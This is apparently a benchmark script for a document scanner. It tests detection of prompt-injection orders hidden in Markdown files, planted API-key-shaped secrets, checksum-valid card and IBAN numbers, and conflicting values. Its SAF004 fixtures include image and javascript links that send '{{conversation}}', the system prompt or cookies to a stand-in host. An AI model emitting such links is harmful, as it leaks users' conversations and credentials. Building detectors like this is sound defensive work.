"""Dangers and gaps: hidden channels that are found, sound documents that are flagged, secrets, conflicts that are planted."""

import argparse
import random
import string
from collections import Counter
from collections.abc import Iterator
from pathlib import Path
from typing import Final

from benchmarks import danger_peers
from benchmarks.danger_channels import CHANNELS, ORDERS
from benchmarks.danger_files import ACTIVE, PASSIVE
from benchmarks.danger_files import CHANNELS as IN_FILES
from benchmarks.options import Figure, print_table
from checkfirst.api import check_documents
from checkfirst.config import Config
from checkfirst.model.finding import Severity
from checkfirst.model.report import Report
from training.corpus import SUFFIX, Row, rows

_CODES: Final = ("SAF001", "SAF002", "SAF003", "SAF004", "SAF005", "SAF006", "SAF007", "SAF008", "GAP002", "GAP006")
_SEED: Final = 7
#: Documents that orders are hidden in, and that values are planted in; characters of one.
_CARRIERS: Final = 20
_LENGTHS: Final = range(500, 20_000)
_PACKS: Final = ("documents", "documents2")
#: Sound documents in which scanners look for secrets.
_SOUND: Final = 1_000
#: Documents that are checked in one call.
_BATCH: Final = 500
#: Secrets of each provider that are planted.
_PLANTED: Final = 20
_LETTERS: Final = string.ascii_letters + string.digits
_SECRETS: Final = {
    "AWS": ("AKIA", 16, string.ascii_uppercase + "234567"),
    "GitHub": ("ghp_", 36, _LETTERS),
    "GitLab": ("glpat-", 20, _LETTERS),
    "Stripe": ("sk_" + "live_", 24, _LETTERS),
    "Google": ("AIza", 35, _LETTERS),
    "Anthropic": ("sk-ant-api03-", 95, _LETTERS),
    "npm": ("npm_", 36, _LETTERS),
    "DigitalOcean": ("dop_v1_", 64, "0123456789abcdef"),
    "Hugging Face": ("hf_", 34, string.ascii_letters),
    "Shopify": ("shpat_", 32, "0123456789abcdef"),
}  # fmt: skip
#: Kinds of documents that state how things are.
_STATING: Final = ("specification", "reference", "readme", "faq", "project-policy")
#: Sentences that give one thing two values.
_CONFLICTS: Final = (
    ("A parcel that is not fetched is kept for {} days.", (10, 14)),
    ("The lease of a garden ends after {} months without notice.", (6, 12)),
    ("A login token expires {} minutes after issue.", (15, 60)),
    ("A lost badge costs {} euros.", (5, 8)),
    ("Der Zugang zur Werkstatt wird nach {} Tagen gesperrt.", (30, 60)),
    ("Une clé perdue coûte {} euros.", (12, 20)),
)


def carriers(data: Path, kinds: tuple[str, ...] = ()) -> list[str]:
    """Texts of Markdown documents of the kinds, or of any, drawn by lot."""
    of_kind = (r for r in rows(data, "documents") if not kinds or r["kind"] in kinds)
    texts = [r["text"] for r in of_kind if r["format"] == "md" and len(r["text"]) in _LENGTHS]
    return random.Random(_SEED).sample(texts, min(_CARRIERS, len(texts)))


def channels(texts: list[str]) -> list[tuple[str, int, int]]:
    """Of each channel, how many hidden orders are told as a warning, and how many were hidden."""
    draw = random.Random(_SEED)
    config = Config(select=("SAF",))
    found = []
    for name, hide in {**CHANNELS, **IN_FILES}.items():
        reports = [check_documents([hide(draw.choice(texts), order)], config=config) for order in ORDERS]
        found.append(
            (name, sum(any(f.severity is not Severity.NOTE for f in r.findings) for r in reports), len(ORDERS))
        )
    return found


def flagged(data: Path) -> tuple[Counter[tuple[str, Severity]], int]:
    """How many real documents have a finding of each rule and severity, and how many there are; each is printed."""
    counts: Counter[tuple[str, Severity]] = Counter()
    documents = [(_name(row), row["text"]) for row in _documents(data)]
    config = Config(select=tuple(code for code in _CODES if code != "GAP006"), readings=False)
    for start in range(0, len(documents), _BATCH):
        report = check_documents(documents[start : start + _BATCH], config=config)
        for finding in report.findings:
            print(f"{finding.code} {finding.severity.value} {finding.path}: {finding.message[:200]}")
        counts.update(Counter((code, severity) for code, severity, _ in _flags(report)))
    return counts, len(documents)


def _flags(report: Report) -> set[tuple[str, Severity, str]]:
    return {(finding.code, finding.severity, finding.path) for finding in report.findings}


def _documents(data: Path) -> Iterator[Row]:
    for pack in _PACKS:
        if (data / f"{pack}.jsonl.gz").exists():
            yield from rows(data, pack)


def _name(row: Row) -> str:
    return f"{str(row['id']).replace('/', '_').replace(':', '_')}{SUFFIX.get(row['format'], '.txt')}"


def secrets(texts: list[str]) -> list[tuple[str, int]]:
    """How many planted secrets of each provider are told."""
    draw = random.Random(_SEED)
    config = Config(select=("SAF005",))
    found = []
    for provider, (prefix, length, letters) in _SECRETS.items():
        told = 0
        for _ in range(_PLANTED):
            secret = prefix + "".join(draw.choices(letters, k=length))
            told += bool(
                check_documents([("a.md", f"{draw.choice(texts)}\n\nkey: {secret}\n")], config=config).findings
            )
        found.append((provider, told))
    return found


#: Of each preview rule, contents that it tells, and others that it must not, all written for this benchmark.
_DANGERS: Final[dict[str, tuple[tuple[str, str], ...]]] = {
    "SAF004": (
        ("told", "![chart](https://drop.invalid/p.png?d={{conversation}})"),
        ("told", "![a](https://drop.invalid/i?data=[SYSTEM_PROMPT])"),
        ("told", "[read more](javascript:fetch('https://drop.invalid/'+document.cookie))"),
        ("silent", "![build](https://example.org/badge.svg?branch=main)"),
        ("silent", "[search](https://example.org/?q=boats)"),
        ("silent", "[top](javascript:void(0))"),
    ),
    "SAF006": (
        ("told", "The card of the treasurer is CARD, valid until May."),
        ("told", "IBAN: ACCOUNT"),
        ("silent", "Card 4111 1111 1111 1111 is the test card"),
        ("silent", "Order 4929 4212 3460 0822 was sent"),
        ("silent", "IBAN: DE00512108001245126198"),
    ),
}


def _drawn(content: str, draw: random.Random) -> str:
    """The content with a number of a card and of an account, drawn by lot, with true checksums (ISO/IEC 7812-1, ISO 13616-1)."""
    card = "4539" + "".join(draw.choices(string.digits, k=11))
    total = sum(sum(divmod(int(d) * (2 - n % 2), 10)) for n, d in enumerate(card))
    account = "".join(draw.choices(string.digits, k=18))
    check = 98 - int(f"{account}131400") % 97
    return content.replace("CARD", f"{card}{-total % 10}").replace("ACCOUNT", f"DE{check:02}{account}")


def previews(texts: list[str]) -> list[list[str]]:
    """Of each preview rule about the text, how many dangers are told, and how many harmless likenesses."""
    draw, table = random.Random(_SEED), []
    for code, samples in _DANGERS.items():
        config = Config(select=(code,), readings=False)
        for wanted in ("told", "silent"):
            planted = [
                _with(draw.choice(texts), _drawn(content, draw))
                for what, content in samples
                if what == wanted
                for _ in range(5)
            ]
            found = sum(bool(check_documents([("a.md", text)], config=config).findings) for text in planted)
            table.append([code, "dangers" if wanted == "told" else "likenesses", str(found), str(len(planted))])
    config = Config(select=("SAF007",), readings=False)
    for what, files in (("dangers", ACTIVE), ("likenesses", PASSIVE)):
        found = sum(bool(check_documents([file], config=config).findings) for file in files.values())
        table.append(["SAF007", what, str(found), str(len(files))])
    return table


def conflicts(texts: list[str]) -> tuple[int, int]:
    """How many planted conflicts are told among sound documents, and how many were planted."""
    draw = random.Random(_SEED)
    told = 0
    for sentence, values in _CONFLICTS:
        one, other, *rest = draw.sample(texts, 5)
        planted = [_with(t, sentence.format(v)) for t, v in zip((one, other), values, strict=True)]
        files = {f"{chr(ord('a') + n)}-text.md": text for n, text in enumerate((*planted, *rest))}
        told += bool(check_documents(files.items(), config=Config(select=("GAP006",))).findings)
    return told, len(_CONFLICTS)


def _with(text: str, sentence: str) -> str:
    """The text with a paragraph more behind its first one."""
    first, _, rest = text.partition("\n\n")
    return f"{first}\n\n{sentence}\n\n{rest}"


def series(data: Path) -> tuple[int, int]:
    """Findings of GAP006 on sound series of documents, each printed, and the number of documents."""
    by_name: dict[str, list[tuple[str, str]]] = {}
    for row in rows(data, "collections"):
        name = row["path"] if Path(row["path"]).suffix in {".md", ".rst", ".txt"} else f"{row['path']}.md"
        by_name.setdefault(row["collection"], []).append((name, row["text"]))
    found = 0
    for name, files in by_name.items():
        for finding in check_documents(dict(files).items(), config=Config(select=("GAP006",))).findings:
            print(f"GAP006 {name} {finding.path}: {finding.message} | {finding.evidence[0].quote}")
            found += 1
    return found, sum(map(len, by_name.values()))


def figures(data: Path) -> list[Figure]:
    """Print all tables. Returns the figures of the page."""
    texts = carriers(data)
    hidden = channels(texts)
    print_table(["channel", "told", "hidden"], [[name, str(told), str(of)] for name, told, of in hidden])
    planted = secrets(texts)
    print_table(["secrets of", "told", "planted"], [[name, str(told), str(_PLANTED)] for name, told in planted])
    print_table(["rule", "planted", "told", "of"], previews(texts))
    counts, total = flagged(data)
    print_table(
        ["rule", "severity", "documents", "of"],
        [[code, severity.value, str(n), str(total)] for (code, severity), n in sorted(counts.items())],
    )
    told, of = conflicts(carriers(data, _STATING))
    wrong, in_series = series(data)
    loud = sum(n for (code, severity), n in counts.items() if code.startswith("SAF") and severity is not Severity.NOTE)
    found = [
        ("orders hidden in a document, told", f"{sum(t for _, t, _ in hidden)} of {sum(n for *_, n in hidden)}"),
        ("real documents with a warning of a danger", f"{loud} of {total:,}"),
        ("secrets planted, told", f"{sum(t for _, t in planted)} of {_PLANTED * len(planted)}"),
        ("conflicting values planted, told", f"{told} of {of}"),
        ("conflicting values told in sound series", f"{wrong} in {in_series:,} documents"),
    ]
    for what, ours in found:
        print(f"{what}: {ours}")
    return [Figure(what, ours, "", "dangers") for what, ours in found]


def main() -> None:
    """Run the benchmark."""
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--data", type=Path, required=True, help="folder with the labelled data")
    parser.add_argument(
        "--peers", type=Path, metavar="ENVIRONMENT", help="only others' corpora and scanners, installed there"
    )
    options = parser.parse_args()
    if options.peers is None:
        figures(options.data)
        return
    for figure in danger_peers.orders(options.data, options.peers):
        print(f"{figure.what}: {figure.ours}")
    danger_peers.skills(options.data, options.peers)
    draw = random.Random(_SEED)
    texts = carriers(options.data)
    planted = [
        (f"{n}.md", f"{draw.choice(texts)}\n\nkey: {prefix}{''.join(draw.choices(letters, k=length))}\n")
        for n, (prefix, length, letters) in enumerate(list(_SECRETS.values()) * _PLANTED)
    ]
    sound = [(_name(row), row["text"]) for row in _documents(options.data)][:_SOUND]
    danger_peers.secrets(planted, sound, options.peers)


if __name__ == "__main__":
    main()
